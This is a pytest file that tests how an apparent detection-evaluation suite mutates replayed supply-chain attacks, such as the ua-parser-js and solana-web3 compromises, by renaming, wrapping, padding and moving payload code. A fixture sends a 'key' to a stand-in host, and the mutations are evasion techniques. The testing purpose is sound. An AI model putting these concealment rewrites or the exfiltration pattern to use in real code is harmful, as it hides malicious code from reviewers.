"""Rewrites keep what the code does: parts of one file stay parts of one file."""

from pathlib import Path

import pytest

from evals.mutations import javascript, padding, python
from evals.mutations.payload import Group, mutants, rewritten
from lazaretto.app.replay import Replay
from lazaretto.infra.replay_folder import read_replay

REPLAYS = Path(__file__).parents[2] / "replays"
HELPER, CALL = "function send(data) { fetch('https://a.invalid/x', { body: data }); }\n", "    send(key);\n"


def done(name: str, path: str, *texts: str) -> tuple[str, ...] | None:
    """Rewrite the parts of a file."""
    return rewritten(name, Group("inserts", path, texts), {})


def test_a_name_that_another_part_uses_is_the_same_in_both() -> None:
    """And what a part does not declare keeps its name: it is the file's own."""
    changed = done("names changed", "a.js", HELPER, CALL)

    assert changed is not None
    helper, call = changed
    name = helper.split("(")[0].removeprefix("function ")
    assert name != "send"
    assert call.strip() == f"{name}(key);"


def test_a_part_that_others_need_gets_no_scope_of_its_own() -> None:
    """The other one does."""
    changed = done("in a function", "a.js", HELPER, CALL)

    assert changed is not None
    assert changed[0] == HELPER
    assert changed[1].startswith(";(function ()")
    kept = done("in a try", "a.py", "import os\n", "os.system('a')\n")
    assert kept is not None
    assert kept[0] == "import os\n"


def test_nothing_is_evaluated_that_needs_what_stands_around_it() -> None:
    """``new Function`` sees globals alone; a function in a class sees nothing of the class."""
    assert done("by Function", "a.js", CALL) in (None, (CALL,))
    assert done("by Function", "a.js", "console.log(1);\n") not in (None, ("console.log(1);\n",))
    text = "import os\ndef run():\n    os.system('a')\nrun()\n"
    assert done("in a class", "a.py", text) in (None, (text,))


@pytest.mark.parametrize("name", ["2024-12-solana-web3", "2022-08-pypi-phish"])
def test_what_is_inserted_further_down_moves(name: str) -> None:
    """By the lines that stand in front of it now."""
    replay: Replay = read_replay(REPLAYS / name)
    first, second = sorted(replay.after.inserts, key=lambda one: one.line)
    mutant = dict(mutants(replay))["behind decoys"]
    before, after = sorted(mutant.after.inserts, key=lambda one: one.line)

    assert before.line == first.line
    assert after.line - second.line == before.data.count(b"\n") - first.data.count(b"\n")
    assert after.line > second.line


def test_what_is_declared() -> None:
    """At the top level, by whatever statement."""
    text = "const a = 1, b = 2;\nfunction c(d) { var e; }\nclass F {}\nasync function g() {}\n"

    assert javascript.declared(text) == {"a", "b", "c", "F", "g"}
    assert python.declared("import os.path\nfrom a import b as c\nx = 1\ndef f(y):\n    z = 1\n") == {
        "os",
        "c",
        "x",
        "f",
    }


def test_paddings_leave_the_payload_as_it_is() -> None:
    """Every line of it stands there still, and every line that was put there says that it is dull."""
    text = "import os\nos.system('a')\n"
    for name in (*padding.PYTHON, "modules of its own", "modules beside it"):
        done = padding.padded(name, Group("overlay", "a/b.py", (text,)))

        assert done is not None
        assert text in done[0][0]
        assert all(padding.MARK in line for line in done[0][0].replace(text, "").splitlines())
    script = "#!/usr/bin/env node\nrequire('child_process').execSync('a');\n"
    for name in (*padding.JAVASCRIPT, "modules of its own", "modules beside it"):
        done = padding.padded(name, Group("overlay", "a/b.js", (script,)))

        assert done is not None
        assert done[0][0].startswith("#!/usr/bin/env node\n")
        rest = done[0][0].replace("#!/usr/bin/env node\n", "").replace(script.partition("\n")[2].strip(), "")
        assert all(padding.MARK in line for line in rest.splitlines() if line.strip())


@pytest.mark.parametrize("name", ["2024-12-solana-web3", "2022-08-pypi-phish", "2026-03-litellm--1.82.8"])
def test_paddings_are_the_same_each_time(name: str) -> None:
    """And what a language cannot have is left out: no module without ``require`` has what needs it."""
    replay: Replay = read_replay(REPLAYS / name)
    first, second = dict(padding.mutants(replay)), dict(padding.mutants(replay))

    assert first == second
    assert all(one.startswith("padded: ") and mutant != replay for one, mutant in first.items())
    module = Group("overlay", "a.mjs", ("import os from 'os';\nos.exit();\n",))
    assert padding.padded("programs", module) is None
    assert padding.padded("requests", module) is not None


def test_commands_stand_before_a_script() -> None:
    """Before those that a client runs by itself."""
    replay: Replay = read_replay(REPLAYS / "2021-10-ua-parser-js")
    scripts = dict(padding.mutants(replay))["padded: commands"].after.manifest["scripts"]

    assert scripts["preinstall"].endswith(" && " + replay.after.manifest["scripts"]["preinstall"])
    assert scripts["preinstall"].count(" && echo dull ") == padding.COMMANDS - 1
